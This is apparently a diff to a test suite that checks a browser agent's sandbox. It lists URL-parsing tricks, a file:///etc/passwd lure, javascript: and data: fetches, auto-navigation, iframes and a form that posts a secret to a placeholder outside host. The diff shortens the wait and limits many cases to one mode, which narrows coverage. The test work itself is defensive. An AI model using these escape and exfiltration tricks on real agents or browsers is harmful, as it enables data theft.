@@ -26,7 +26,7 @@ class Attack:
     page: str = ""  # the attack page's body, or
     goto: str = ""  # the URL the agent is lured to open (it must be refused)
     click: bool = False  # the agent clicks "Go" (a user gesture)
-    wait: float = 0.3  # seconds the page gets to act before the probe
+    wait: float = 0.2  # seconds the page gets to act before the probe
     modes: tuple[str, ...] = BOTH
     headers: tuple[tuple[str, str], ...] = ()
     within: float = 0.0  # the whole attack must end this fast (plus the wait)
@@ -46,13 +46,13 @@ _GOTO = [  # URL tricks handed to goto
     ("goto-decimal", "http://2130706433:{{H1P}}/", ORIGIN), ("goto-hex", "http://0x7f000001:{{H1P}}/", ORIGIN),
     ("goto-mapped-ipv6", "http://[::ffff:127.0.0.1]:{{H1P}}/", ORIGIN), ("goto-ipv6", "{{H6}}/", ORIGIN),
     ("goto-userinfo", "http://{{AH}}@{{XA}}/", BOTH), ("goto-backslash", "http://{{XA}}\\@{{AH}}/", BOTH),
-    ("goto-case", "HTTP://{{XA}}/", BOTH), ("goto-trailing-dot", "http://127.0.0.1.:{{H1P}}/", ORIGIN),
+    ("goto-case", "HTTP://{{XA}}/", ORIGIN), ("goto-trailing-dot", "http://127.0.0.1.:{{H1P}}/", ORIGIN),
     ("goto-tab", "http://127.0.0.1:\t{{H1P}}/", ORIGIN), ("goto-newline", "http://{{XA}}\n/", BOTH),
-    ("goto-100k", "{{X}}/" + "a" * 100_000, BOTH), ("goto-bad-port", "http://127.0.0.1:99999/", ORIGIN),
+    ("goto-100k", "{{X}}/" + "a" * 100_000, ORIGIN), ("goto-bad-port", "http://127.0.0.1:99999/", ORIGIN),
     ("goto-data", "data:text/html,<script>fetch('{{X}}/data')</script>", BOTH),
     ("goto-javascript", "javascript:fetch('{{X}}/js')", BOTH), ("goto-file", "file:///etc/passwd", ORIGIN),
-    ("goto-view-source", "view-source:{{X}}/vs", BOTH), ("goto-chrome", "chrome://version", ORIGIN),
-    ("goto-blob", "blob:{{X}}/uuid", BOTH), ("goto-name", "http://{{N}}/", BOTH),
+    ("goto-view-source", "view-source:{{X}}/vs", ORIGIN), ("goto-chrome", "chrome://version", ORIGIN),
+    ("goto-blob", "blob:{{X}}/uuid", ORIGIN), ("goto-name", "http://{{N}}/", BOTH),
     ("goto-protocol-relative", "//{{XA}}/pr", BOTH), ("goto-empty", "", ORIGIN), ("goto-blank", "   ", ORIGIN),
     ("goto-no-host", "http://", ORIGIN), ("goto-nul", "\x00", ORIGIN),
 ]
@@ -60,25 +60,26 @@ _GOTO = [  # URL tricks handed to goto
 _PAGES = [
     # navigations started by the page
     Attack("link-click", "navigation", '<a href="{{X}}/link">Go</a>', click=True),
-    Attack("link-new-tab", "navigation", '<a target="_blank" href="{{X}}/tab">Go</a>', click=True),
+    Attack("link-new-tab", "navigation", '<a target="_blank" href="{{X}}/tab">Go</a>', click=True, modes=ORIGIN),
     Attack("window-open", "navigation", js("window.open('{{X}}/popup')")),
     Attack("location-href", "navigation", js("location.href = '{{X}}/href'")),
-    Attack("location-replace", "navigation", js("location.replace('{{X}}/replace')")),
-    Attack("location-on-click", "navigation", go("location.assign('{{X}}/assign')"), click=True),
+    Attack("location-replace", "navigation", js("location.replace('{{X}}/replace')"), modes=ORIGIN),
+    Attack("location-on-click", "navigation", go("location.assign('{{X}}/assign')"), click=True, modes=ORIGIN),
     Attack("meta-refresh", "navigation", '<meta http-equiv="refresh" content="0;url={{X}}/meta"><p>wait</p>'),
-    Attack("refresh-header", "navigation", "<p>wait</p>", headers=(("Refresh", "0;url={{X}}/refresh"),)),
+    Attack("refresh-header", "navigation", "<p>wait</p>", headers=(("Refresh", "0;url={{X}}/refresh"),), modes=ORIGIN),
     Attack("form-post", "navigation", '<form id=f method=post action="{{X}}/post"><input name=secret value=s></form>'
                                       "<script>f.submit()</script>"),
-    Attack("form-get-click", "navigation", '<form action="{{X}}/get"><button>Go</button></form>', click=True),
-    Attack("base-href", "navigation", '<base href="{{X}}/"><a href="based">Go</a>', click=True),
+    Attack("form-get-click", "navigation", '<form action="{{X}}/get"><button>Go</button></form>', click=True, modes=ORIGIN),
+    Attack("base-href", "navigation", '<base href="{{X}}/"><a href="based">Go</a>', click=True, modes=ORIGIN),
     Attack("iframe", "frames", '<iframe src="{{X}}/frame"></iframe>'),
     Attack("iframe-srcdoc", "frames", "<iframe srcdoc=\"<script>fetch('{{X}}/srcdoc')</script>\"></iframe>"),
     Attack("iframe-sandboxed-websocket", "frames", "".join(
         f"<iframe sandbox=allow-scripts srcdoc=\"<script>new WebSocket('{{{{XW}}}}/sbx{i}')</script>\"></iframe>"
         for i in range(6)), wait=0.6),
-    Attack("iframe-data", "frames", "<iframe src=\"data:text/html,<script>fetch('{{X}}/dataframe')</script>\"></iframe>"),
+    Attack("iframe-data", "frames", "<iframe src=\"data:text/html,<script>fetch('{{X}}/dataframe')</script>\"></iframe>", modes=ORIGIN),
     # redirects (the allowed site answers 3xx to an outside target)
-    *[Attack(f"redirect-{code}", "redirects", js(f"location.href = '/r/{code}/X'")) for code in (301, 302, 303, 307, 308)],
+    *[Attack(f"redirect-{code}", "redirects", js(f"location.href = '/r/{code}/X'"), modes=BOTH if code in (302, 307) else ORIGIN)
+      for code in (301, 302, 303, 307, 308)],
     Attack("redirect-chain", "redirects", js("location.href = '/chain/3/X'")),
     Attack("redirect-backslash-fetch", "redirects",  # the parser differential that was a read/write proxy
            js("fetch('/loc/backslash', {method: 'POST', body: 'secret'}).catch(() => 0)") + '<img src="/loc/backslash">'),
